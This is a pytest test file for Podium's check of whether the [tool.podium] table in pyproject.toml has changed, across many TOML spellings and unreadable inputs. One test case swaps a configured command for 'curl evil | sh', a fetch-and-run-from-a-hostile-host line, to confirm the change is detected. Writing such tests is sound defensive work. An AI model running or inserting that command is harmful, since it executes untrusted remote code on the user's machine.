"""Podium's table in pyproject.toml: the same or not, in whatever spelling TOML allows."""

from __future__ import annotations

import pytest

from podium.settings.own_table import same_table

BARE = b'[project]\nname = "app"\n'
OWN = BARE + b'[tool.podium.commands]\ntest = "make test"\n'
UNREADABLE = b'[tool.podium]\nagent = "claude"\n[tool.podium]\n'


@pytest.mark.parametrize(
    "now",
    [
        BARE + b"[tool.podium]\n",
        b'tool.podium.agent = "x"\n' + BARE,
        b'tool = {podium = {agent = "x"}}\n' + BARE,
        BARE + b'[ tool . "podium" ]\nagent = "x"\n',
        BARE + b'["tool"."p\\u006fdium".notify]\ncommand = ["sh"]\n',
        BARE + b"[[tool.podium]]\n",
    ],
)
def test_a_table_that_comes_is_a_change_however_it_is_spelled(now: bytes) -> None:
    assert not same_table(BARE, now)
    assert not same_table(None, now)
    assert not same_table(now, BARE)
    assert not same_table(now, None)


@pytest.mark.parametrize(
    ("was", "now"),
    [
        (None, BARE),
        (BARE, None),
        (BARE, BARE + b'dependencies = ["attrs"]\n[tool.ruff]\n'),
        (OWN, b"[tool.podium]\ncommands.test = 'make test'\n" + BARE.replace(b"app", b"other")),
        (OWN, OWN.replace(b"\n", b"\r\n")),
        (BARE, b"[project\n"),
        (BARE, BARE + b"# [tool.podium]\n"),
    ],
)
def test_what_is_not_in_the_table_is_no_change_of_it(was: bytes | None, now: bytes | None) -> None:
    assert same_table(was, now)


@pytest.mark.parametrize(
    "now",
    [
        OWN.replace(b"make test", b"curl evil | sh"),
        BARE,
        UNREADABLE,
        OWN.decode().encode("utf-16"),
        OWN + b"# " + b"x" * 2_000_000,
        b"x = " + b"[" * 100_000 + b'"podium"',
    ],
)
def test_a_table_that_changed_went_or_cannot_be_read_any_more_is_not_the_same(now: bytes) -> None:
    assert not same_table(OWN, now)


def test_a_number_is_no_truth_value() -> None:
    assert not same_table(b"[tool.podium]\nx = true\n", b"[tool.podium]\nx = 1\n")


def test_of_two_that_cannot_be_read_nobody_can_say_that_they_are_the_same() -> None:
    assert not same_table(UNREADABLE, UNREADABLE + b"\n")
    assert same_table(UNREADABLE, UNREADABLE)
